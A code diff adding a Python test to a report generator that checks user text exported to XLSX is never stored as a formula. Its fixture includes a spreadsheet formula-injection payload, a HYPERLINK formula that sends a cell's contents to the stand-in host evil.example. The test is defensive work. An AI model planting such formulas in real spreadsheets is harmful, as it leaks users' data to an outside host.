@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import os
 import re
+import zipfile
 from dataclasses import replace
 from datetime import UTC, datetime
 from io import BytesIO
@@ -242,3 +243,18 @@ def test_filename() -> None:
     assert reports.report_filename(report(layanan_name=None), "xlsx").endswith(
         "sipil-semester-i-2026.xlsx"
     )
+
+
+def test_xlsx_user_text_is_never_a_formula() -> None:
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Klik untuk detail")'
+    content = render_report_xlsx(
+        report(saran=[attack, "=1+1", "@SUM(A1)"], instansi_name="=1+2", period_label="-2+3")
+    )
+    with zipfile.ZipFile(BytesIO(content)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert not any(b"<f>" in archive.read(name) for name in sheets)
+    book = workbook(content)
+    assert rows_of(book["Saran"])[1:] == [(1, attack), (2, "=1+1"), (3, "@SUM(A1)")]
+    summary = [row[:2] for row in rows_of(book["Ringkasan"])]
+    assert ("Instansi", "=1+2") in summary
+    assert ("Periode", "-2+3") in summary
